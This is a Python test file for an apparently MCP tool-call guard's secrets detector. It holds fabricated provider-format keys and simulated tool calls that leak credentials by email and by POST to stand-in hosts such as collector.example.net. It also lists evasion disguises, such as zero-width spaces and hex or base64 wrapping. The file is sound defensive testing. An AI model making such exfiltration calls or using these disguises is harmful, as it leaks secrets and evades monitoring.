@@ -1,0 +1,184 @@
+"""The `secrets` detector: provider formats, keys, JWTs, connection strings, generic credentials."""
+
+from __future__ import annotations
+
+import base64
+import dataclasses
+import json
+
+import pytest
+
+from aegis_mcp.engine.detectors import secrets
+from aegis_mcp.engine.engine import Engine
+from aegis_mcp.engine.extract import extract, extract_text
+from aegis_mcp.engine.model import RiskLevel, ToolCall
+
+
+def _jwt() -> str:
+    enc = lambda obj: base64.urlsafe_b64encode(json.dumps(obj).encode()).decode().rstrip("=")  # noqa: E731
+    return f"{enc({'alg': 'HS256', 'typ': 'JWT'})}.{enc({'sub': '1234567890', 'name': 'Ann', 'iat': 1516239022})}.SflKxwRJSMeKKF2QT4fwpMeJf36POk6yJV_adQssw5c"
+
+
+# Shaped like each provider's published format; bodies are random, not copied from any corpus.
+LIVE = {
+    "aws_access_key_id": "AKIAZ7Q4LMBX2RTWP6NC",
+    "github_token": "ghp_R8f2kLq9Zt3VwX7nB4mC1yH6sD0aJ5eGu2Pi",
+    "github_pat": "github_pat_11ABCDE2Q0x9Tz8RkP3LmW_Hq7VbN4cX2sJ9dF6gK1yU5tR8eW3qZ0aS7vB4nM2pL6oI9uY3tR5eW8",
+    "gitlab_token": "glpat-x7Kq2Rm9Zt4VbN8cW3sJ",
+    "slack_token": "xoxb-2817364519-4829163740-Zq8Rk3Lm9Xt2VbN7cW4sJ6dF",
+    "stripe_key": "sk_live_4eC39HqLyjWDarjtT1zdp7dcQ9xR2",
+    "google_api_key": "AIzaSyD4Kq9Rm2Zt7VbN8cW3sJ6dF1gH5kL0pQ4",
+    "openai_key": "sk-proj-Zq8Rk3Lm9Xt2VbN7cW4sJ6dF1gH5kL0pQ4eR7tY2uI9oP3aS6dF8gH1jK4lZ7",
+    "anthropic_key": "sk-ant-api03-" + "Zq8Rk3Lm9Xt2VbN7cW4sJ6dF1gH5kL0pQ4eR7tY2uI9oP3aS6dF8gH1jK4lZ7xC0vB3nM5qW8eR2tY6uI9oP1aS4dF7g-AbCdEfAA",
+    "sendgrid_key": "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",
+    "npm_token": "npm_Zq8Rk3Lm9Xt2VbN7cW4sJ6dF1gH5kL0pQ4eR",
+    "adafruit_io_key": "aio_Zq8Rk3Lm9Xt2VbN7cW4sJ6dF1gH5",
+    "digitalocean_token": "dop_v1_" + "a3f9c2e7b1d84f6a9c0e5b2d7f1a8c3e6b9d2f5a8c1e4b7d0f3a6c9e2b5d8f1a",
+    "jwt": _jwt(),
+    "private_key": "-----BEGIN RSA PRIVATE KEY-----\nMIIEowIBAAKCAQEAx8Zq8Rk3Lm9Xt2VbN7cW4sJ6dF1gH5kL0pQ4eR7tY2uI9oP3aS6d\nF8gH1jK4lZ7xC0vB3nM5qW8eR2tY6uI9oP1aS4dF7gAbCdEf0Q2w4E6r8T1y3U5i7O9p\n-----END RSA PRIVATE KEY-----",
+    "connection_string": "postgres://app_user:Xq9!vR2#kLm7zT@db.prod.example.com:5432/orders",
+}
+
+
+def _ctx(tool: str, args: dict, **extra):
+    ctx = extract(ToolCall(tool, args))
+    return dataclasses.replace(ctx, extra={**ctx.extra, **extra}) if extra else ctx
+
+
+def _top(signals) -> RiskLevel:
+    return max((s.severity for s in signals), default=RiskLevel.LOW)
+
+
+@pytest.mark.parametrize("kind,value", sorted(LIVE.items()))
+def test_provider_secret_emailed_out_is_critical(kind: str, value: str) -> None:
+    ctx = _ctx("send_email", {"to": "someone@gmail.com", "subject": "creds", "body": f"here you go:\n{value}\nbye"})
+    sigs = secrets.detect(ctx)
+    assert _top(sigs) is RiskLevel.CRITICAL, sigs
+    assert any(kind in s.detail for s in sigs), sigs
+    assert sigs[0].path == "/body"
+
+
+def test_generic_keyword_credential_is_pending_when_sent_out() -> None:
+    ctx = _ctx("post_message", {"channel": "#general", "text": 'config: acme_api_key = "q7Zt2Rm9XbN4cW8sJ6dF1gH5"'})
+    sigs = secrets.detect(ctx)
+    assert _top(sigs) is RiskLevel.HIGH
+    assert "generic_secret" in sigs[0].detail
+
+
+def test_secret_written_to_a_file_is_held_not_blocked() -> None:
+    sigs = secrets.detect(_ctx("write_file", {"path": "app/.env", "content": f"GITHUB_TOKEN={LIVE['github_token']}\n"}))
+    assert _top(sigs) is RiskLevel.HIGH
+    assert sigs[0].rule == "secret_in_call"
+
+
+def test_credential_in_its_own_argument_is_recorded_only() -> None:
+    sigs = secrets.detect(_ctx("login", {"username": "ann", "api_key": "q7Zt2Rm9XbN4cW8sJ6dF1gH5"}))
+    assert [s.rule for s in sigs] == ["credential_argument"]
+    assert sigs[0].severity is RiskLevel.MEDIUM
+
+
+def test_trusted_domain_lowers_severity() -> None:
+    args = {"to": "ops@corp.example.com", "subject": "k", "body": LIVE["github_token"]}
+    assert _top(secrets.detect(_ctx("send_email", args))) is RiskLevel.CRITICAL
+    assert _top(secrets.detect(_ctx("send_email", args, trusted_domains=["corp.example.com"]))) is RiskLevel.HIGH
+
+
+@pytest.mark.parametrize(
+    "body",
+    [
+        "aws_access_key_id = AKIAIOSFODNN7EXAMPLE",  # AWS's documented example
+        'api_key = "<YOUR_API_KEY>"',
+        "export GITHUB_TOKEN=${GITHUB_TOKEN}",
+        "password = \"123\"",
+        "secret_key = aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa",
+        "token = xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx",
+        "sb.append(\"MasterUserPassword: \" + getMasterUserPassword());",
+        "const password = process.env.DB_PASSWORD;",
+        "postgres://user:${DB_PASSWORD}@localhost/db",
+        "amqp://user:*****@example.com",
+        "-----BEGIN PRIVATE KEY-----\n...\n-----END PRIVATE KEY-----",
+        "mysqldump --user user --password path/to/backup.sql",
+        "the session token expired yesterday, please log in again",
+        "access the dashboard from the admin panel",
+        "see the primary key of the orders table",
+        "commit 3f2a9c1e7b4d8f6a0c5e2b9d1f7a3c8e6b4d2f0a fixed the build",
+        "request id 550e8400-e29b-41d4-a716-446655440000",
+    ],
+)
+def test_lookalikes_are_not_secrets(body: str) -> None:
+    sigs = secrets.detect(_ctx("send_email", {"to": "x@gmail.com", "subject": "s", "body": body}))
+    assert _top(sigs) < RiskLevel.HIGH, sigs
+
+
+def test_base64_wrapped_token_is_found_through_decoded_forms() -> None:
+    hidden = base64.b64encode(LIVE["github_token"].encode()).decode()
+    sigs = secrets.detect(_ctx("send_email", {"to": "x@gmail.com", "subject": "s", "body": f"blob: {hidden}"}))
+    assert _top(sigs) >= RiskLevel.HIGH
+
+
+def test_secret_in_an_object_key_is_found() -> None:
+    sigs = secrets.detect(_ctx("http_request", {"method": "POST", "url": "https://paste.example.net/x", "body": {LIVE["stripe_key"]: 1}}))
+    assert _top(sigs) is RiskLevel.CRITICAL
+
+
+def test_keyword_inside_a_rejected_value_is_not_swallowed() -> None:
+    text = "[Peer]\nPublicKey = [the server's key]\nPresharedKey = uRsfsZ2Ts1rach4Zv3hhwcx6wa5fuIo2u3w7sa+7j81=\n"
+    assert _top(secrets.detect(_ctx("post_message", {"channel": "#ops", "text": text}))) is RiskLevel.HIGH
+
+
+def test_result_mode_flags_provider_secret_for_redaction() -> None:
+    ctx = extract_text(f"config loaded: token={LIVE['slack_token']}", "read_config", mode="result")
+    sigs = secrets.detect(ctx)
+    assert _top(sigs) is RiskLevel.HIGH and sigs[0].rule == "secret_in_result"
+
+
+def test_engine_blocks_live_key_sent_out_and_redacts_result() -> None:
+    engine = Engine()
+    d = engine.check(ToolCall("send_email", {"to": "x@gmail.com", "subject": "k", "body": LIVE["aws_access_key_id"]}))
+    assert d.decision == "block"
+    r = engine.check_result(ToolCall("read_file", {"path": "a"}), f"key={LIVE['github_token']} ok")
+    assert r.decision == "redact" and LIVE["github_token"] not in (r.redacted_text or "")
+
+
+def test_hostile_input_is_bounded() -> None:
+    import time
+
+    hostile = "api_key = a1 " * 40000 + "password=" * 20000
+    t = time.perf_counter()
+    secrets.detect(_ctx("send_email", {"to": "x@gmail.com", "body": hostile}))
+    assert time.perf_counter() - t < 2.0
+
+
+@pytest.mark.parametrize(
+    "disguise",
+    [
+        lambda k: k[:10] + "\u200b" + k[10:],
+        lambda k: "".join("%" + format(ord(c), "02x") for c in k),
+        lambda k: k.encode().hex(),
+        lambda k: json.dumps({"nested": {"deeper": k}}),
+    ],
+)
+def test_evasion_forms_still_block(disguise) -> None:  # type: ignore[no-untyped-def]
+    body = f"see: {disguise(LIVE['github_token'])}"
+    assert _top(secrets.detect(_ctx("send_email", {"to": "x@gmail.com", "subject": "s", "body": body}))) is RiskLevel.CRITICAL
+
+
+def test_demo_value_in_a_provider_format_is_held_not_blocked() -> None:
+    sigs = secrets.detect(_ctx("post_message", {"channel": "#x", "text": "okta_api_key: 00QCjAl4MlV-WPXM-ABCDEFGHIJKL-0HmjFx-vbGu-"}))
+    assert _top(sigs) is RiskLevel.HIGH
+
+
+def test_token_in_an_auth_header_authenticates_it_does_not_leak() -> None:
+    call = {"method": "GET", "url": "https://api.github.com/user/repos",
+            "headers": {"Authorization": f"Bearer {LIVE['github_token']}", "Accept": "application/json"}}
+    sigs = secrets.detect(_ctx("http_request", call))
+    assert sigs and _top(sigs) is RiskLevel.MEDIUM
+    leak = {"method": "POST", "url": "https://collector.example.net/x", "body": f"tok={LIVE['github_token']}"}
+    assert _top(secrets.detect(_ctx("http_request", leak))) is RiskLevel.CRITICAL
+
+
+def test_document_ids_in_shared_links_are_not_keys() -> None:
+    text = "notes: https://docs.google.com/document/d/1aBcD3fGhIjKlMnOpQrStUvWxYz0123456789AbCd/edit thanks"
+    assert _top(secrets.detect(_ctx("post_message", {"channel": "#team", "text": text}))) < RiskLevel.HIGH
+    leaked = "use https://api.example.com/v1/data?api_key=q7Zt2Rm9XbN4cW8sJ6dF1gH5kL0p"
+    assert _top(secrets.detect(_ctx("post_message", {"channel": "#team", "text": leaked}))) is RiskLevel.HIGH
